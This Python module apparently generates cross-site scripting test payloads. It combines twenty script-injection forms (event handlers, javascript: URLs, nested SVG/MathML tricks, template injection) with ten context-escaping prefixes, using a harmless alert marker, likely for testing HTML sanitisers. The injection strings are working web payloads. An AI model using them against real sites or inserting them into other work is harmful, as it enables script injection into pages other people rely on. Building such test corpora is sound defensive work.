"""Script payloads: ways to make a browser run what ought to be text, times ways to write them."""

_CALL = "window.pwned=1;alert(1)"
_FORMS = (
    "<script>{call}</script>",
    "<img src=x onerror={call}>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<iframe src=javascript:{call}></iframe>",
    "<a href=javascript:{call} autofocus onfocus={call}>x</a>",
    "<details open ontoggle={call}>",
    "<video><source onerror={call}></video>",
    "<input autofocus onfocus={call}>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={call}></style></mglyph></math>",
    "<object data=javascript:{call}></object>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<base href=javascript:{call}//>",
    "<style onload={call}></style>",
    "<link rel=stylesheet href=data:text/css,x onload={call}>",
    "<template><script>{call}</script></template>",
    "<body onload={call} onpageshow={call}>",
    "<form action=javascript:{call}><button autofocus>x</button></form>",
    "${{({call})}}{{{{constructor.constructor('{call}')()}}}}",
)
_WRITINGS = (
    "{}",
    "'\">{}",
    "</title></textarea>{}",
    "-->{}<!--",
    "]]>{}",
    "</script>{}",
    "`{}",
    "\\'{}",
    "<b>{}</b>",
    "\u202e{}",
)
PAYLOADS = [writing.format(form.format(call=_CALL)) for form in _FORMS for writing in _WRITINGS]
